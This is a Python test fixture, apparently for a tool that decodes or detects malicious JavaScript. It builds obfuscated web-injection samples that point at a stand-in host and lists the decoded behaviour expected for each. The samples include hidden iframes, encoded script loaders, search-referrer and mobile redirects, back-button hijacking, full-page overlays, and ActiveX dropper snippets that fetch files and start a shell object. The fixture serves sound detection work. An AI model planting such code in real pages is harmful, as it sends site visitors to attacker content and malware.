"""Scripts in the manner of kits of many years, written for these tests, one a line, and what must be found in them. U is where they lead."""

U = "https://go.evil-target.test/x"
FRAME = f"<iframe src='{U}' width=1 height=1></iframe>"
CODE = f'document.write("{FRAME}")'


def codes(text: str, by: int = 0) -> str:
    return ",".join(str(ord(letter) + by) for letter in text)


def gumblar(text: str) -> str:
    return "".join(letter if letter.isalnum() else f"-{ord(letter):02x}" for letter in text)


KITS = [
    # A throw that only a browser makes, an eval by another name, numbers in a list.
    ("ff=String;fff='fromCharCode';ff=ff[fff];zz=3;try{document.body&=5151}catch(gdsgd){v='eval';if(document)try{document.body=12;}catch(gdsgsdg){asd=0;"
     "try{}catch(q){asd=1;}if(!asd){w={a:window}.a;vv=v;}}e=w[vv];if(1){f=new Array(" + codes(CODE) + ");}w=f;s=[];if(window.document)"
     "for(i=2-2;-i+" + str(len(CODE)) + "!=0;i+=1){j=i;if((031==0x19))if(e)s=s+ff(w[j]);}xz=e;if(v)xz(s)}", f"write {FRAME}"),
    ("try{prototype%2}catch(asd){x=2}try{q=document[(x)?'c'+'r':2+'e'+'a'+'t'+'e'+'E'+'l'+'e'+'m'+((f)?'e'+'n'+'t':'')]('p');q.appendChild(q+'')"
     "}catch(fwbewe)"
     "{i=0;try{prototype;}catch(z){h='hCode';f=['" + codes(CODE, 7) + "'][0].split(',');v='e'+'va';}if(v)e=window[v+'l'];try{q=document.createElement('div');"
     "q.appendChild(q+'')}catch(hbeh){w=f;s=[];r=String;z=((e)?h:'');for(;"
     "" + str(len(CODE)) + "!=i;i+=1){j=i;if(e)s=s+r['fromC'+((e)?'harCode':12)](w[j]*1-7)}"
     "if(v&&e&&r&&z&&h&&s&&f&&v)e(s)}}", f"write {FRAME}"),
    # Percent signs put in late.
    (f"(function(){{var G='%';var K='{gumblar(CODE)}';eval(unescape(K.replace(/-/g,G)))}})()", f"write {FRAME}"),
    # A page's own list of names, the code backwards.
    ('var _0xaae8=["","\\x6A\\x6F\\x69\\x6E","\\x72\\x65\\x76\\x65\\x72\\x73\\x65","\\x73\\x70\\x6C\\x69\\x74","'
     + f"<script src='{U}'></script>"[::-1] + '","\\x77\\x72\\x69\\x74\\x65"];'
     + 'document[_0xaae8[5]](_0xaae8[4][_0xaae8[3]](_0xaae8[0])[_0xaae8[2]]()[_0xaae8[1]](_0xaae8[0]))',
     f"write <script src='{U}'></script>"),
    # Two ways into the page, by whether it has a body yet.
    (f"if(document.getElementsByTagName('body')[0]){{iframer();}}else{{document.write(\"{FRAME}\");}}function iframer()"
     f"{{var f=document.createElement('iframe');"
     f"f.setAttribute('src','{U}');f.style.visibility='hidden';f.style.left='0';document.getElementsByTagName('body')[0].appendChild(f);}}",
     f"frame {U}\nwrite {FRAME}"),
    # Numbers that wait in an element the script has made itself.
    (f"var d=document.createElement('div');d.id='zz';d.innerHTML='{codes(CODE, 3)}';document.body.appendChild(d);var t=document.getElementById('zz')"
     f".innerHTML.split(',');"
     "var s='';for(var i=0;i<t.length;i++)s+=String.fromCharCode(t[i]-3);eval(s)", f"write {FRAME}"),
    # Once a day, to phones that come from a search.
    (f"var u='{U}';function c(n){{var m=document.cookie.match(new RegExp(n+'=([^;]*)'));return m?m[1]:''}}if(!c('vst')"
     f"&&/google|coccoc|bing/i.test(document.referrer)&&"
     "/android|iphone/i.test(navigator.userAgent)){var e=new Date();e.setTime(e.getTime()+864e5);document.cookie='vst=1;expires='+e.toGMTString();"
     "setTimeout(function(){top.location.replace(u)},200)}", f"navigate {U}"),
    # The first click opens another window, once.
    (f"(function(){{var k='x-app';function go(){{if(localStorage.getItem(k))return;localStorage.setItem(k,Date.now());window.open('{U}','_blank');"
     "document.removeEventListener('click',go)}document.addEventListener('click',go)})()", f"~listen click\n~popup {U}"),
    # The way back is taken over.
    (f"history.pushState(null,null,location.href);window.addEventListener('popstate',function(){{location.href='{U}'}})", f"~listen popstate\n~navigate {U}"),
    # A counter picks one of a list.
    (f"var l=['{U}','{U}2','{U}3'];location=l[Math.floor(Math.random()*l.length)]", f"navigate {U}\nnavigate {U}2\nnavigate {U}3"),
    # A script's address in parts, by a function of names.
    (f"(function(a,b,c,d){{d=a[b](c);d['as'+'ync']=!0;d['s'+'rc']=['{U[:8]}','{U[8:]}'].join('');a['he'+'ad']['append'+'Child'](d)}})(document,"
     f"'createElement','script')",
     f"script {U}"),
    # Old tags, old ways.
    (f"document.write('<SCR'+'IPT LANGUAGE=\"JavaScript\" SRC=\"{U}\"></SCR'+'IPT>')", f'write <SCRIPT LANGUAGE="JavaScript" SRC="{U}"></SCRIPT>'),
    (f"var x=unescape('%u{ord('<'):04x}script src={U}%u{ord('>'):04x}%3C/script%3E');document.writeln(x)", f"write <script src={U}></script>"),
    (f"document.write(String.fromCharCode({codes(FRAME)}))", f"write {FRAME}"),
    (f"t='{codes(FRAME)}'.split(',');m='';for(k=0;k<t.length;k++){{m+=String.fromCharCode(t[k])}}document.write(m)", f"write {FRAME}"),
    ("var b=document.body||document.documentElement,f=document.createElement('if'+'ra'+'me');f.frameBorder=0;f.height=f.width='1px';f.src=unescape('"
     + "".join(f"%{ord(letter):x}" for letter in U) + "');b.insertBefore(f,b.firstChild)", f"frame {U}"),
    (f"window.onload=function(){{var a=document.createElement('a');a.href='{U}';a.rel='noreferrer';document.body.appendChild(a);a.click()"
     f"}}", f"navigate {U}"),
    (f"var f=document.createElement('form');f.method='GET';f.action='{U}';var i=document.createElement('input');i.name='q';i.value=1;f.appendChild(i);"
     "document.body.appendChild(f);HTMLFormElement.prototype.submit.call(f)", f"form {U}"),
    (f"if(typeof window.__done==='undefined'){{window.__done=1;var s=document.createElement('script');s.type='text/javascript';s.async=true;"
     f"s.src='{U}?'+Date.now();"
     "(document.head||document.body).appendChild(s)}", f"script {U}?"),
    (f"!function(){{try{{if(window.top!==window)throw 1;var n=navigator.userAgent;if(/bot|spider|lighthouse/i.test(n))return;"
     f"location.href='{U}'}}catch(e){{}}}}()", f"navigate {U}"),
    (f"$(document).ready(function(){{if($(window).width()<768){{window.location.href='{U}'}}}})", f"navigate {U}"),
    (f"jQuery(function($){{$('body').append($('<div>').css('display','none').html('<a href=\"{U}\">x</a>'))}})", f'write <a href="{U}">x</a>'),
    (f"document.body.style.display='none';document.documentElement.innerHTML='<iframe src=\"{U}\" style=\"position:fixed;top:0;left:0;width:100%;"
     f"height:100%\"></iframe>'",
     f'write <iframe src="{U}" style="position:fixed;top:0;left:0;width:100%;height:100%"></iframe>'),
]  # fmt: skip

# Programs of the system loaded by names and addresses that are put together.
DROPPERS = [
    ("var n='MSXML2'+'.XMLHTTP',x=new ActiveXObject(n);x.open('GET','http://'+['files','evil-target','test'].join('.')+'/a',false);x.send()",
     ("files.evil-target.test",)),
    (f"var s=new ActiveXObject(String.fromCharCode({codes('WScript.Shell')}));s.Run('calc')", ()),
    ("var a='ADO'+'DB.St'+'ream';var w=WScript['CreateObject'](a);w['open']()", ()),
]  # fmt: skip
